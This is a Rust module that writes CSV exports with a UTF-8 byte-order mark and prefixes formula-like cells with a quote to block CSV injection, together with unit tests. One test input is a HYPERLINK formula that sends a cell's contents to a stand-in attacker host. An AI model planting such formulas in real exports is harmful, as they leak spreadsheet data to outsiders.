//! CSV exports: UTF-8 with a byte-order mark (so that Excel reads Chinese correctly), and cells
//! that a spreadsheet cannot take for formulas.

/// A writer of an export, its byte-order mark written.
pub fn writer() -> csv::Writer<Vec<u8>> {
    csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF])
}

/// Writes one line of cells, each neutralised with [`cell`].
pub fn write_line<I, S>(out: &mut csv::Writer<Vec<u8>>, cells: I) -> Result<(), csv::Error>
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    for c in cells {
        out.write_field(cell(c.as_ref()).as_bytes())?;
    }
    out.write_record(None::<&[u8]>)
}

/// A cell as text a spreadsheet shows and never evaluates: text starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return is prefixed with `'` (OWASP's advice against CSV injection),
/// so `=HYPERLINK(…)` is shown as written.
pub fn cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::{cell, write_line, writer};

    #[test]
    fn formulas_are_shown_not_evaluated() {
        for (text, shown) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
                "'=HYPERLINK(",
            ),
            ("+86 570 1234567", "'+86"),
            ("-1+2", "'-1+2"),
            ("@SUM(A1)", "'@SUM"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
        ] {
            assert!(cell(text).starts_with(shown), "{text:?} → {}", cell(text));
        }
        for plain in ["衢州", "13812345678", "", "a=b", "0570-8012345"] {
            assert_eq!(cell(plain), plain);
        }
        let mut out = writer();
        write_line(&mut out, ["=1+1", "ok"]).expect("line");
        let bytes = out.into_inner().expect("bytes");
        assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
        assert_eq!(&bytes[3..], b"'=1+1,ok\n");
    }
}
